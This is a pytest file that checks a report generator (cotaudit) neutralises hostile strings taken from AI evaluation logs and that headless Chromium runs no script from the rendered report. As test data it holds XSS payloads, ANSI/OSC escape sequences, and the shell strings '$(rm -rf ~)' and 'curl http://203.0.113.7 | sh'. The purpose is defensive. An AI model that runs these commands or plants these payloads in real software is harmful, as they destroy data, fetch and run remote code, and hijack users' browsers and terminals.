"""Hostile logs end to end: a log written by Inspect's own ``mockllm/`` provider whose sample
ids, conditions and pair ids carry HTML, ``<script>``, ``javascript:`` links, TeX and ANSI/OSC
escape sequences, and whose outputs carry those, shell strings and a very long line; probed
with ``cotaudit/probe_log`` on the tiny model (TRACE with the exact estimator beside the
sampled one: sample ids in a table and as figure panels; resampling: conditions as columns and
the model's sentences in a table), then reported with ``cotaudit report`` beside a damaged copy
of the log and a JSON file that is no log.

``report.md`` is rendered as a CommonMark renderer with HTML allowed and tables on renders it
(markdown-it-py, ``commonmark`` preset, ``table`` enabled, ``html=True``) and opened in headless
Chromium from a loopback server: no script runs, no request leaves loopback, every payload
shows as text. The browser test needs ``apt-get install chromium`` and playwright (it skips
without them, unless ``COTAUDIT_REQUIRE_BROWSER=1``).
"""

from __future__ import annotations

import functools
import html
import http.server
import re
import shutil
import threading
import zipfile
from pathlib import Path

import pytest
from helpers import run_eval
from inspect_ai import Task
from inspect_ai.dataset import Sample
from inspect_ai.model import ModelOutput, ModelUsage, get_model
from inspect_ai.scorer import match
from inspect_ai.solver import Generate, Solver, TaskState, generate, solver
from markdown_it import MarkdownIt
from test_viewer_browser import CHROMIUM, CHROMIUM_ARGS, RENDER_TIMEOUT_MS, _require_browser

from cotaudit.display.text import report_text, visible
from cotaudit.params import ParameterError
from cotaudit.report import Report, build_report
from cotaudit.tasks.probe_log import probe_log, probe_log_task

MOCK = "mockllm/model"
ANSI = "\x1b[2J\x1b]0;pwned title\x07\x1b]52;c;ZXZpbA==\x07"
"""Clear the screen, set the window title, write the clipboard (OSC 52)."""
IDS = [
    "<script>alert('id')</script>",
    '<img src="http://203.0.113.7/x.png" onerror="alert(1)">',
    '<a href="javascript:alert(2)">click</a>',
    f"$\\frac{{$ {ANSI}",
]
"""Sample ids: HTML, a script, a javascript: link, TeX with escape sequences."""
CONDITIONS = ["<iframe src=http://203.0.113.7/></iframe>", "$\\frac{$ | `c`"]
"""The samples' conditions (the probe's and the resampling table's columns)."""
LONG = "long " * 3000
"""A 15,000-character stretch of one line."""
REPLY = (
    '[x](javascript:alert(3)) <a href="javascript:alert(4)">y</a> then '
    f"{ANSI} and $(rm -rf ~); `curl http://203.0.113.7 | sh` {LONG}. "
    "So <i>1 + 2</i> = 3 $\\frac{$. ANSWER: 3"
)
"""The model's reply: two hostile sentences (the first a very long line), then the answer, so
at least one of the resampling's five most important sentences of the four samples is
hostile."""


def _output(text: str) -> ModelOutput:
    output = ModelOutput.from_content(MOCK, text)
    output.usage = ModelUsage(input_tokens=1, output_tokens=1, total_tokens=2)  # no tiktoken
    return output


def _eval(task: Task, model, log_dir: Path):
    return run_eval(task, model, log_dir, max_samples=1)


def _hostile_log(log_dir: Path):
    """Four samples (two conditions of two problems), each answering 3 after the hostile
    sentence and the long line; scored by match(numeric=True)."""
    samples = [
        Sample(
            id=sample_id,
            input="What is 1 + 2?",
            target="3",
            metadata={"condition": CONDITIONS[i % 2], "pair_id": f"<b>pair</b> {i // 2}"},
        )
        for i, sample_id in enumerate(IDS)
    ]
    model = get_model(MOCK, custom_outputs=[_output(REPLY) for _ in samples])
    task = Task(dataset=samples, solver=generate(), scorer=match(numeric=True), name="hostile")
    return _eval(task, model, log_dir)


def _damaged_copy(log_path: Path, out: Path) -> Path:
    """A copy of the ``.eval`` log at ``log_path`` whose header still reads but whose first
    sample's compressed bytes are zeroed."""
    shutil.copy(log_path, out)
    with zipfile.ZipFile(out) as z:
        info = next(i for i in z.infolist() if i.filename.startswith("samples/"))
    data = bytearray(out.read_bytes())
    name_len = int.from_bytes(data[info.header_offset + 26 : info.header_offset + 28], "little")
    extra_len = int.from_bytes(data[info.header_offset + 28 : info.header_offset + 30], "little")
    start = info.header_offset + 30 + name_len + extra_len
    data[start : start + info.compress_size] = bytes(info.compress_size)
    out.write_bytes(bytes(data))
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, Report]:
    """The hostile log, its two probes on the tiny model and the report of the probes, a
    damaged copy of the log and a JSON file that is no log."""
    root = tmp_path_factory.mktemp("hostile")
    raw = Path(_hostile_log(root / "raw").location)
    probed = root / "probed"
    _eval(probe_log_task(str(raw), probe="trace", estimator="both"), "hf-probe/tiny", probed)
    resample = probe_log_task(str(raw), probe="resample", resample=2, resample_max_tokens=48)
    _eval(resample, "hf-probe/tiny", probed)
    damaged = _damaged_copy(raw, probed / "damaged.eval")
    (probed / "not_a_log.json").write_text('{"<script>": "alert(5)"}')
    report = build_report([probed], root / "report")
    assert {Path(p).name for p, _ in report.skipped} == {damaged.name, "not_a_log.json"}
    return raw, report


def commonmark(markdown: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)


def _shown(fragment: str) -> str:
    """What a browser shows of ``fragment``: tags dropped, references decoded, whitespace runs
    as single spaces."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", fragment)).split())


def _payloads(report: Report) -> list[str]:
    """What must show as written (control characters as :func:`visible` writes them): the
    sample ids, the conditions and the sentences the resampling table quotes (one hostile at
    least)."""
    sentences = report.sections["probe_resample"][0].tables["top_sentences"].column("sentence(s)")
    assert any("<" in s for s in sentences), sentences
    return [*IDS, *CONDITIONS, *sentences]


def test_report_md_holds_no_markup_or_control_character_from_the_logs(hostile):
    _, report = hostile
    text = report.markdown_path.read_text(encoding="utf-8")
    assert not re.search(r"<(script|img|iframe|a|b)\b", text, re.IGNORECASE)
    assert not any(ord(ch) < 32 and ch != "\n" or 0x7F <= ord(ch) < 0xA0 for ch in text)
    page = commonmark(text)
    tags = set(re.findall(r"<(\w+)", page))
    assert tags <= {"h1", "h2", "h3", "p", "strong", "em", "code", "ul", "li", "blockquote"} | {
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "img",
    }, tags
    sources = re.findall(r'<img src="([^"]*)"', page)
    assert sources and all(re.fullmatch(r"[\w.-]+\.png", s) for s in sources), sources
    assert "javascript:" not in " ".join(re.findall(r"<[^>]+>", page))


def test_every_payload_shows_as_written(hostile):
    _, report = hostile
    shown = _shown(commonmark(report.markdown_path.read_text(encoding="utf-8")))
    for payload in _payloads(report):
        assert " ".join(visible(payload).split()) in shown, payload
    assert "long " * 3000 in shown + " "


def test_the_probe_sections_and_their_figures_are_whole(hostile):
    _, report = hostile
    text = report.markdown_path.read_text(encoding="utf-8")
    assert "Section failed" not in text and "could not be drawn" not in text
    assert len(report.runs) == 2 and set(report.sections) == {"probe_trace", "probe_resample"}
    assert len(report.figures) == 2 and all(f.path.stat().st_size for f in report.figures)
    exact = report.sections["probe_trace"][0].tables
    sample_rows = [t for t in exact.values() if t.columns[0] == "sample"]
    assert sample_rows and sorted(sample_rows[0].column("sample")) == sorted(IDS)
    resampled = report.sections["probe_resample"][0].tables["top_sentences"]
    assert set(resampled.column("condition")) == set(CONDITIONS)


def test_a_damaged_log_and_a_json_that_is_no_log_are_skipped_and_named(hostile):
    _, report = hostile
    why = {Path(p).name: reason for p, reason in report.skipped}
    assert why["damaged.eval"].startswith("a damaged log, its samples do not read: ")
    assert why["not_a_log.json"].startswith("not a readable Inspect log: ")
    assert all("\n" not in r and "https://" not in r for r in why.values()), why
    text = report.markdown_path.read_text(encoding="utf-8")
    skipped = text.split("## Skipped files", 1)[1]
    assert all(f"- `{path}`: {report_text(why)}" in skipped for path, why in report.skipped)


def test_an_error_naming_a_hostile_sample_id_shows_its_control_characters(hostile):
    raw, _ = hostile
    with pytest.raises(ParameterError) as e:
        probe_log(log=str(raw), samples=f"id {ANSI}")
    message = str(e.value)
    assert "\x1b" not in message and "\x07" not in message
    assert visible(f"id {ANSI}") in message


def test_a_bad_temperature_is_refused_before_the_log_is_probed(hostile):
    raw, _ = hostile
    with pytest.raises(ParameterError, match=r"^-T temperature: must be >= 0.0, got -1$"):
        probe_log(log=str(raw), temperature=-1)


@solver
def _no_reply() -> Solver:
    async def solve(state: TaskState, generate: Generate) -> TaskState:
        return state

    return solve


def test_a_log_without_assistant_messages_is_refused_before_any_model_loads(tmp_path):
    samples = [Sample(id=f"s{i}", input="What is 1 + 2?", target="3") for i in range(2)]
    task = Task(dataset=samples, solver=_no_reply(), scorer=match(numeric=True), name="silent")
    log = _eval(task, get_model(MOCK), tmp_path)
    with pytest.raises(ParameterError) as e:
        probe_log(log=log.location)
    assert str(e.value) == (
        f"-T log={log.location}: 2 of the 2 samples to probe have no assistant message, so no "
        "trace to cut ('s0', 's1'); -T samples= picks others"
    )


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:
        pass


def test_report_md_in_a_browser_runs_no_script_and_loads_nothing_from_outside(hostile):
    """report.md rendered to HTML (CommonMark, HTML allowed, tables), served from 127.0.0.1 and
    opened in headless Chromium: no dialog, no page error, no console message, every request
    to the loopback server, no script or frame in the page, every payload in its text."""
    _require_browser()
    from playwright.sync_api import sync_playwright

    _, report = hostile
    out = report.markdown_path.parent
    page_html = commonmark(report.markdown_path.read_text(encoding="utf-8"))
    (out / "index.html").write_text(
        f'<!doctype html><html><head><meta charset="utf-8"></head><body>{page_html}</body></html>',
        encoding="utf-8",
    )
    handler = functools.partial(_Quiet, directory=str(out))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}/"
    events: dict[str, list[str]] = {"dialog": [], "console": [], "pageerror": [], "outside": []}
    try:
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            try:
                page = browser.new_page()
                page.set_default_timeout(RENDER_TIMEOUT_MS)

                def route(r) -> None:
                    if r.request.url.startswith(base):
                        r.continue_()
                    else:
                        events["outside"].append(r.request.url)
                        r.abort()

                page.route("**/*", route)
                page.on("dialog", lambda d: (events["dialog"].append(d.message), d.dismiss()))
                page.on("console", lambda m: events["console"].append(m.text))
                page.on("pageerror", lambda e: events["pageerror"].append(str(e)))
                page.goto(base + "index.html", wait_until="load")
                page.wait_for_timeout(1000)  # a deferred handler would have fired by now
                shown = " ".join(page.inner_text("body").split())
                counts = page.evaluate(
                    "() => ({scripts: document.scripts.length,"
                    " frames: document.querySelectorAll('iframe, object, embed').length,"
                    " handlers: [...document.querySelectorAll('*')].filter(e =>"
                    " [...e.attributes].some(a => a.name.startsWith('on'))).length,"
                    " links: document.links.length})"
                )
                images = page.evaluate("() => [...document.images].map(i => i.src)")
            finally:
                browser.close()
    finally:
        server.shutdown()
        server.server_close()
    assert events == {"dialog": [], "console": [], "pageerror": [], "outside": []}, events
    assert counts == {"scripts": 0, "frames": 0, "handlers": 0, "links": 0}, counts
    assert images and all(src.startswith(base) and src.endswith(".png") for src in images)
    for payload in _payloads(report):
        assert " ".join(visible(payload).split()) in shown, payload
